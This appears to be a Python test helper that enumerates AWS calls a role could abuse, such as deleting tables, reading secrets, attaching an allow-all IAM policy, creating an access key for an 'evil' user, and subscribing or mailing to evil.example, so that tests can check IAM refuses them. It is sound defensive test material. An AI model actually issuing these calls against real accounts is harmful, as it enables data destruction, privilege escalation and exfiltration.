"""Calls of AWS by which a role could do harm, each with the action and the resource that IAM judges it by.

What a role's own policies grant is left out; all else must be refused. IAM is asked before the request is looked at, so
most of these name things that are there, and nothing would happen to them but what is refused.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from fnmatch import fnmatchcase
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Mapping, Sequence

Json = dict[str, Any]


@dataclass(frozen=True)
class Call:
    """One request by boto3. `resource` is what IAM judges it by; `*` where AWS has none for the action."""

    service: str
    operation: str
    parameters: Mapping[str, Any]
    action: str
    resource: str = "*"

    @property
    def name(self) -> str:
        """For whoever reads a failure."""
        return f"{self.service} {self.operation} {self.resource}"


@dataclass(frozen=True)
class Things:
    """What there is in the desk's account, by ARN or, where AWS asks for it so, by name."""

    account: str
    region: str
    tables: tuple[str, ...]
    queues: Mapping[str, str]
    """ARN by URL."""

    functions: tuple[str, ...]
    machines: tuple[str, ...]
    log_groups: tuple[str, ...]
    secrets: tuple[str, ...]
    buses: tuple[str, ...]
    topics: tuple[str, ...]
    roles: tuple[str, ...]
    pool: str
    client: str
    api: str
    stack: str


def may(policies: Iterable[Json], call: Call) -> bool:
    """Whether a statement allows it, if its condition holds: what may be allowed is not called."""
    statements = [statement for policy in policies for statement in _list(policy["Statement"])]
    return any(
        statement["Effect"] == "Allow"
        and any(fnmatchcase(call.action.lower(), action.lower()) for action in _list(statement["Action"]))
        and any(fnmatchcase(call.resource, resource) for resource in _list(statement["Resource"]))
        for statement in statements
    )


def calls(things: Things) -> list[Call]:
    """All of them."""
    return [
        *_of_tables(things),
        *_of_queues(things),
        *_of_functions(things),
        *_of_machines(things),
        *_of_logs(things),
        *_of_secrets(things),
        *_of_events(things),
        *_of_messages(things),
        *_of_people(things),
        *_of_rights(things),
        *_of_the_account(things),
    ]


def _of_tables(things: Things) -> Iterator[Call]:
    key = {"PK": {"S": "CLIENT#acme"}, "SK": {"S": "CLIENT"}}
    query = {"KeyConditionExpression": "PK = :pk", "ExpressionAttributeValues": {":pk": {"S": "CLIENT#acme"}}}
    for arn in things.tables:
        table = {"TableName": arn.rpartition("/")[2]}
        wanted: dict[str, Json] = {
            "GetItem": {"Key": key},
            "PutItem": {"Item": key},
            "UpdateItem": {"Key": key},
            "DeleteItem": {"Key": key},
            "Query": query,
            "Scan": {},
            "DeleteTable": {},
            "DescribeTable": {},
            "UpdateTable": {"BillingMode": "PAY_PER_REQUEST"},
            "UpdateTimeToLive": {"TimeToLiveSpecification": {"Enabled": False, "AttributeName": "expires_at"}},
            "CreateBackup": {"BackupName": "taken-away"},
            "UpdateContinuousBackups": {
                "PointInTimeRecoverySpecification": {"PointInTimeRecoveryEnabled": False},
            },
        }
        for operation, parameters in wanted.items():
            yield _call("dynamodb", operation, {**table, **parameters}, arn)
        name = table["TableName"]
        keys = {"RequestItems": {name: {"Keys": [key]}}}
        yield _call("dynamodb", "BatchGetItem", keys, arn)
        yield _call("dynamodb", "BatchWriteItem", {"RequestItems": {name: [{"DeleteRequest": {"Key": key}}]}}, arn)
        for index in ("queue", "client", "wake"):
            yield _call("dynamodb", "Query", {**table, **query, "IndexName": index}, f"{arn}/index/{index}")
            yield _call("dynamodb", "Scan", {**table, "IndexName": index}, f"{arn}/index/{index}")
    yield _call("dynamodb", "ListTables", {})


def _of_queues(things: Things) -> Iterator[Call]:
    for url, arn in things.queues.items():
        queue = {"QueueUrl": url}
        yield _call("sqs", "SendMessage", {**queue, "MessageBody": "{}"}, arn)
        yield _call("sqs", "ReceiveMessage", queue, arn)
        yield _call("sqs", "PurgeQueue", queue, arn)
        yield _call("sqs", "DeleteQueue", queue, arn)
        yield _call("sqs", "SetQueueAttributes", {**queue, "Attributes": {"Policy": ""}}, arn)


def _of_functions(things: Things) -> Iterator[Call]:
    for arn in things.functions:
        function = {"FunctionName": arn.rpartition(":")[2]}
        yield _call("lambda", "Invoke", {**function, "Payload": b"{}"}, arn, action="InvokeFunction")
        yield _call("lambda", "UpdateFunctionCode", {**function, "ZipFile": b"x"}, arn)
        yield _call("lambda", "UpdateFunctionConfiguration", {**function, "Timeout": 1}, arn)
        yield _call("lambda", "DeleteFunction", function, arn)
        yield _call("lambda", "GetFunction", function, arn)
    yield _call("lambda", "ListFunctions", {})


def _of_machines(things: Things) -> Iterator[Call]:
    for arn in things.machines:
        machine = {"stateMachineArn": arn}
        yield _call("stepfunctions", "StartExecution", {**machine, "input": "{}"}, arn)
        yield _call("stepfunctions", "DescribeStateMachine", machine, arn)
        yield _call("stepfunctions", "UpdateStateMachine", {**machine, "definition": "{}"}, arn)
        yield _call("stepfunctions", "DeleteStateMachine", machine, arn)
        yield _call("stepfunctions", "ListExecutions", machine, arn)
        execution = {"executionArn": arn.replace(":stateMachine:", ":execution:") + ":x"}
        yield _call("stepfunctions", "StopExecution", execution, execution["executionArn"])
        yield _call("stepfunctions", "DescribeExecution", execution, execution["executionArn"])
        yield _call("stepfunctions", "GetExecutionHistory", execution, execution["executionArn"])
    yield _call("stepfunctions", "SendTaskSuccess", {"taskToken": "x", "output": "{}"})
    yield _call("stepfunctions", "SendTaskFailure", {"taskToken": "x"})
    yield _call("stepfunctions", "ListStateMachines", {})


def _of_logs(things: Things) -> Iterator[Call]:
    for name in things.log_groups:
        group, arn = {"logGroupName": name}, f"arn:aws:logs:{things.region}:{things.account}:log-group:{name}"
        yield _call("logs", "FilterLogEvents", group, arn)
        yield _call("logs", "DeleteLogGroup", group, arn)
        yield _call("logs", "PutRetentionPolicy", {**group, "retentionInDays": 1}, arn)


def _of_secrets(things: Things) -> Iterator[Call]:
    for arn in things.secrets:
        secret = {"SecretId": arn}
        yield _call("secretsmanager", "GetSecretValue", secret, arn)
        yield _call("secretsmanager", "PutSecretValue", {**secret, "SecretString": "x"}, arn)
        yield _call("secretsmanager", "DeleteSecret", secret, arn)
    yield _call("secretsmanager", "ListSecrets", {})
    parameter = f"arn:aws:ssm:{things.region}:{things.account}:parameter/others/key"
    yield _call("ssm", "GetParameter", {"Name": "/others/key"}, parameter)
    yield _call("ssm", "PutParameter", {"Name": "/others/key", "Value": "x", "Type": "String"}, parameter)
    yield _call("ssm", "DeleteParameter", {"Name": "/others/key"}, parameter)
    yield _call("kms", "ListKeys", {})
    yield _call("kms", "CreateKey", {})


def _of_events(things: Things) -> Iterator[Call]:
    for arn in things.buses:
        name = arn.rpartition("/")[2]
        entry = {"Source": "x", "DetailType": "x", "Detail": "{}", "EventBusName": name}
        rule = f"arn:aws:events:{things.region}:{things.account}:rule/{name}/x"
        yield _call("events", "PutEvents", {"Entries": [entry]}, arn)
        yield _call("events", "PutRule", {"Name": "x", "EventBusName": name, "ScheduleExpression": "rate(1 day)"}, rule)
        yield _call("events", "DeleteRule", {"Name": "x", "EventBusName": name}, rule)
    yield _call("events", "ListRules", {})


def _of_messages(things: Things) -> Iterator[Call]:
    for arn in things.topics:
        topic = {"TopicArn": arn}
        yield _call("sns", "Publish", {**topic, "Message": "x"}, arn)
        yield _call("sns", "DeleteTopic", topic, arn)
        yield _call("sns", "Subscribe", {**topic, "Protocol": "email", "Endpoint": "x@evil.example"}, arn)
        yield _call("sns", "SetTopicAttributes", {**topic, "AttributeName": "Policy", "AttributeValue": ""}, arn)
    body = {"Subject": {"Data": "x"}, "Body": {"Text": {"Data": "x"}}}
    mail = {"Destination": {"ToAddresses": ["x@evil.example"]}, "Content": {"Simple": body}}
    identity = f"arn:aws:ses:{things.region}:{things.account}:identity/evil.example"
    yield _call("sesv2", "SendEmail", {"FromEmailAddress": "x@evil.example", **mail}, identity)
    yield _call("sesv2", "CreateEmailIdentity", {"EmailIdentity": "evil.example"}, identity)
    yield _call("sesv2", "DeleteEmailIdentity", {"EmailIdentity": "evil.example"}, identity)
    yield _call("sesv2", "ListEmailIdentities", {})


def _of_people(things: Things) -> Iterator[Call]:
    pool = {"UserPoolId": things.pool}
    arn = f"arn:aws:cognito-idp:{things.region}:{things.account}:userpool/{things.pool}"
    user = {**pool, "Username": "omar@guardia.example"}
    wanted: dict[str, Json] = {
        "AdminCreateUser": user,
        "AdminDeleteUser": user,
        "AdminGetUser": user,
        "AdminAddUserToGroup": {**user, "GroupName": "operators"},
        "AdminSetUserPassword": {**user, "Password": "Aa1-evil-evil"},
        "ListUsers": pool,
        "DeleteUserPool": pool,
        "CreateUserPoolClient": {**pool, "ClientName": "evil"},
        "UpdateUserPoolClient": {**pool, "ClientId": things.client},
    }
    for operation, parameters in wanted.items():
        yield _call("cognito-idp", operation, parameters, arn)


def _of_rights(things: Things) -> Iterator[Call]:
    anybody = '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}'
    for arn in things.roles:
        role = {"RoleName": arn.rpartition("/")[2]}
        yield _call("sts", "AssumeRole", {"RoleArn": arn, "RoleSessionName": "evil"}, arn)
        yield _call("iam", "PutRolePolicy", {**role, "PolicyName": "all", "PolicyDocument": anybody}, arn)
        yield _call("iam", "UpdateAssumeRolePolicy", {**role, "PolicyDocument": anybody}, arn)
    evil = f"arn:aws:iam::{things.account}:user/evil"
    yield _call("iam", "CreateUser", {"UserName": "evil"}, evil)
    yield _call("iam", "CreateAccessKey", {"UserName": "evil"}, evil)
    yield _call("iam", "ListRoles", {})
    yield _call("iam", "ListUsers", {})


def _of_the_account(things: Things) -> Iterator[Call]:
    stack = f"arn:aws:cloudformation:{things.region}:{things.account}:stack/{things.stack}/*"
    yield _call("cloudformation", "DeleteStack", {"StackName": things.stack}, stack)
    yield _call("cloudformation", "DescribeStacks", {"StackName": things.stack}, stack)
    alarm = f"arn:aws:cloudwatch:{things.region}:{things.account}:alarm:x"
    yield _call("cloudwatch", "DeleteAlarms", {"AlarmNames": ["x"]})
    yield _call("cloudwatch", "SetAlarmState", {"AlarmName": "x", "StateValue": "OK", "StateReason": "x"}, alarm)
    yield _call("s3", "ListBuckets", {}, action="ListAllMyBuckets")
    yield _call("s3", "GetObject", {"Bucket": "others", "Key": "x"}, "arn:aws:s3:::others/x")
    yield _call("s3", "PutObject", {"Bucket": "others", "Key": "x", "Body": b"x"}, "arn:aws:s3:::others/x")
    api = f"arn:aws:apigateway:{things.region}::/restapis/{things.api}"
    yield _call("apigateway", "GetRestApi", {"restApiId": things.api}, api, action="GET")
    yield _call("apigateway", "DeleteRestApi", {"restApiId": things.api}, api, action="DELETE")
    yield _call("resourcegroupstaggingapi", "GetResources", {})


PREFIXES = {"stepfunctions": "states", "sesv2": "ses", "resourcegroupstaggingapi": "tag"}
"""By what IAM calls a service, where boto3 calls it otherwise."""


def _call(service: str, operation: str, parameters: Json, resource: str = "*", *, action: str = "") -> Call:
    return Call(
        service, snake(operation), parameters, f"{PREFIXES.get(service, service)}:{action or operation}", resource
    )


def snake(operation: str) -> str:
    """`UpdateTimeToLive` → `update_time_to_live`, as boto3 names it."""
    return re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", operation).lower()


def _list(value: Any) -> Sequence[Any]:
    return value if isinstance(value, list) else [value]
